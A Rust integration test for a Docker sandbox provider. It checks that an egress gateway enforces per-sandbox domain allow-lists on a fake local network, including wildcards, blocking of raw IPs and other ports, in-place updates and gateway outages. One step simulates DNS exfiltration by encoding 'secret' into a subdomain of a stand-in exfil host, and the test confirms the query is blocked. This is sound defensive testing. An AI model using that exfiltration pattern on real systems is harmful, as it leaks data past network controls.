//! Domain egress allow-lists on Docker, enforced by the provider's egress gateway, on a
//! local fake internet (`tests/egress/fakenet.rs`): a Docker network of the test's own with
//! DNS, HTTP and TLS servers bound in this process. The gateway runs the operator binary
//! built for this test (mounted into the base image).
//!
//! Needs a running engine and the base image (`tests/setup/docker.sh`,
//! `tests/setup/base-image.sh`).

#[path = "egress/fakenet.rs"]
mod fakenet;
mod harness;

use std::time::Duration;

use fakenet::{FakeNet, GatewayGuard, gateway_settings};
use harness::docker::{TEST_LABEL, TestEnv, base_image, engine};
use harness::{unique, wait_for};
use sandbox_operator::provider::docker::{
    COMPONENT, COMPONENT_LABEL, DockerProvider, DockerSettings, EgressGatewaySettings,
};
use sandbox_operator::provider::{EgressState, ErrorKind, ExecRequest, Provider};

const WAIT: Duration = Duration::from_secs(30);

/// `curl` in the sandbox: (exit code, stdout).
async fn curl(p: &DockerProvider, id: &str, args: &str) -> (i64, String) {
    let script = format!("curl -s -m 5 {args}");
    let out = p
        .exec(id, &ExecRequest::shell(script, Duration::from_secs(20)))
        .await
        .expect("exec curl");
    (
        out.exit_code,
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

async fn reaches(p: &DockerProvider, id: &str, url: &str, host: &str) -> Result<(), String> {
    match curl(p, id, &format!("-k {url}")).await {
        (0, body) if body.trim() == format!("hello {host}") => Ok(()),
        other => Err(format!("{url} from {id}: {other:?}")),
    }
}

async fn refused(p: &DockerProvider, id: &str, url: &str) -> Result<i64, String> {
    match curl(p, id, &format!("-k {url}")).await {
        (code, _) if code != 0 => Ok(code),
        other => Err(format!("{url} from {id} connected: {other:?}")),
    }
}

async fn gateway_running(name: &str) -> bool {
    engine()
        .await
        .inspect_container(name, None)
        .await
        .ok()
        .and_then(|c| c.state)
        .and_then(|s| s.running)
        .unwrap_or(false)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
    // Dropped in reverse: the sandboxes first, then the gateway, then the fake internet
    // (each holds an endpoint on the network of the next).
    let gw = unique("egt-gw");
    let net = FakeNet::start(&unique("egt-inet"), (TEST_LABEL, &gw)).await;
    let _guard = GatewayGuard(gw.clone());
    let env = TestEnv::new("egress").await;
    let p = DockerProvider::connect_negotiated(
        "docker-egress",
        DockerSettings {
            default_image: Some(base_image()),
            egress: Some(gateway_settings(&net, &gw, base_image(), 8)),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert!(p.egress_policy().is_some());

    // Two sandboxes with different lists behind the same gateway.
    let a = env.name("sbx-egress-a");
    let mut req = env.request(&a);
    req.allowed_domains = Some(vec!["allowed.test".into(), "*.wild.test".into()]);
    p.create(&req).await.unwrap();
    p.start(&a).await.unwrap();
    let b = env.name("sbx-egress-b");
    let mut req = env.request(&b);
    req.allowed_domains = Some(vec!["other.test".into()]);
    p.create(&req).await.unwrap();
    p.start(&b).await.unwrap();

    // The gateway is ours but not the sweeper's: labelled as a component, no instance label.
    let labels = engine()
        .await
        .inspect_container(&gw, None)
        .await
        .unwrap()
        .config
        .unwrap()
        .labels
        .unwrap();
    assert_eq!(
        labels.get(COMPONENT_LABEL).map(String::as_str),
        Some(COMPONENT)
    );
    assert!(!labels.contains_key("sandboxes.dev/managed-by"));

    // Allowed names over HTTP and TLS; wildcards are subdomains only.
    wait_for("allowed.test over HTTP from a", WAIT, || {
        reaches(&p, &a, "http://allowed.test/", "allowed.test")
    })
    .await;
    reaches(&p, &a, "https://allowed.test/", "allowed.test")
        .await
        .unwrap();
    reaches(&p, &a, "http://x.wild.test/", "x.wild.test")
        .await
        .unwrap();
    assert_eq!(
        refused(&p, &a, "http://wild.test/").await.unwrap(),
        6,
        "*.x is not x"
    );
    wait_for("other.test over TLS from b", WAIT, || {
        reaches(&p, &b, "https://other.test/", "other.test")
    })
    .await;

    // Unlisted names do not resolve; raw IPs and other ports do not connect.
    assert_eq!(refused(&p, &a, "http://other.test/").await.unwrap(), 6);
    assert_eq!(refused(&p, &b, "https://allowed.test/").await.unwrap(), 6);
    let raw = refused(&p, &a, &format!("http://{}/", net.host))
        .await
        .unwrap();
    assert!(matches!(raw, 7 | 28), "raw IP: curl exit {raw}");
    let gw_ip = env
        .sh(&a, "getent hosts allowed.test | cut -d' ' -f1")
        .await
        .trim()
        .to_string();
    let port = refused(&p, &a, &format!("http://{gw_ip}:8080/"))
        .await
        .unwrap();
    assert!(matches!(port, 7 | 28), "another port: curl exit {port}");
    // Straight to the gateway with an unlisted Host: refused with a 403 that says why.
    let (code, body) = curl(&p, &a, &format!("-H 'Host: other.test' http://{gw_ip}/")).await;
    assert_eq!(code, 0);
    assert!(
        body.contains("not on this sandbox's egress allow-list"),
        "{body}"
    );

    // DNS exfiltration: an unlisted name never reaches the upstream.
    let _ = curl(&p, &a, "http://c2VjcmV0.exfil.test/").await;
    let _ = env
        .sh(&a, "getent hosts c2VjcmV0-2.exfil.test || true")
        .await;
    let asked = net.asked();
    assert!(
        !asked.iter().any(|q| q.contains("exfil")),
        "the upstream saw {asked:?}"
    );
    assert!(
        !asked.iter().any(|q| q == "wild.test"),
        "the upstream saw {asked:?}"
    );
    assert!(
        asked
            .iter()
            .all(|q| ["allowed.test", "other.test", "x.wild.test"].contains(&q.as_str())),
        "{asked:?}"
    );

    // The verdict is observed inside the sandbox.
    let v = p.egress().unwrap().egress_verdict(&a).await.unwrap();
    assert_eq!(v.state, EgressState::Filtered, "{v:?}");

    // A changed list applies in place, on the same container.
    let id_before = engine().await.inspect_container(&a, None).await.unwrap().id;
    p.egress_policy()
        .unwrap()
        .set_allowed_domains(&a, Some(&["other.test".to_string()]))
        .await
        .unwrap();
    wait_for("other.test from a after the change", WAIT, || {
        reaches(&p, &a, "http://other.test/", "other.test")
    })
    .await;
    wait_for("allowed.test refused from a after the change", WAIT, || {
        refused(&p, &a, "http://allowed.test/")
    })
    .await;
    assert_eq!(
        engine().await.inspect_container(&a, None).await.unwrap().id,
        id_before
    );

    // Also after a sleep: the list set on wake is the one that holds.
    p.sleep(&a).await.unwrap();
    p.wake(&a).await.unwrap();
    p.egress_policy()
        .unwrap()
        .set_allowed_domains(&a, Some(&["allowed.test".to_string()]))
        .await
        .unwrap();
    wait_for("allowed.test from a after wake", WAIT, || {
        reaches(&p, &a, "http://allowed.test/", "allowed.test")
    })
    .await;

    // Placement cannot change in place: the provider says so (the controller recreates).
    let err = p
        .egress_policy()
        .unwrap()
        .set_allowed_domains(&a, None)
        .await
        .unwrap_err();
    assert!(err.is(ErrorKind::Conflict), "{err}");
    assert_eq!(p.egress_policy().unwrap().placement(None), Some("open"));
    assert_eq!(
        p.egress_policy().unwrap().placement(Some(&[])),
        Some("none")
    );

    // Gateway down: no egress at all, until the operator's supervisor restores it.
    // The supervisor may restore it quickly: kill again until one curl ran wholly while
    // the gateway was observed down before and after it.
    let docker = engine().await;
    let mut seen_down = false;
    for _ in 0..5 {
        docker.kill_container(&gw, None).await.unwrap();
        wait_for("the gateway to stop", WAIT, || async {
            if gateway_running(&gw).await {
                Err("still running".to_string())
            } else {
                Ok(())
            }
        })
        .await;
        let (code, _) = curl(&p, &a, "-m 3 http://allowed.test/").await;
        if !gateway_running(&gw).await {
            assert_ne!(code, 0, "egress while the gateway is down");
            seen_down = true;
            break;
        }
    }
    assert!(
        seen_down,
        "the gateway came back before it could be observed down"
    );
    wait_for(
        "allowed.test again once the gateway is restored",
        Duration::from_secs(60),
        || reaches(&p, &a, "http://allowed.test/", "allowed.test"),
    )
    .await;

    // Destroy removes the sandbox's policy from the gateway.
    p.destroy(&b).await.unwrap();
    p.destroy(&a).await.unwrap();
}

#[tokio::test]
async fn without_a_gateway_a_list_is_refused_before_anything_is_created() {
    let env = TestEnv::new("egress-none").await;
    let name = env.name("sbx-egress-no-gw");
    let mut req = env.request(&name);
    req.allowed_domains = Some(vec!["allowed.test".into()]);
    let err = env.provider.create(&req).await.unwrap_err();
    assert!(err.is(ErrorKind::Unsupported), "{err}");
    assert!(err.message().contains("egress gateway"), "{err}");
    assert!(env.provider.egress_policy().is_none());
    assert!(env.provider.describe(&name).await.unwrap().is_none());
}

#[tokio::test]
async fn bad_entries_are_refused_naming_the_field() {
    let env = TestEnv::new("egress-bad").await;
    let p = DockerProvider::connect(
        "docker-egress-bad",
        DockerSettings {
            egress: Some(EgressGatewaySettings::with_image(base_image())),
            ..Default::default()
        },
    )
    .unwrap();
    let name = env.name("sbx-egress-bad");
    let mut req = env.request(&name);
    req.allowed_domains = Some(vec!["ok.test".into(), "10.0.0.1".into()]);
    let err = p.create(&req).await.unwrap_err();
    assert!(err.is(ErrorKind::Invalid), "{err}");
    assert!(
        err.message().contains("spec.egress.allowedDomains[1]"),
        "{err}"
    );
}
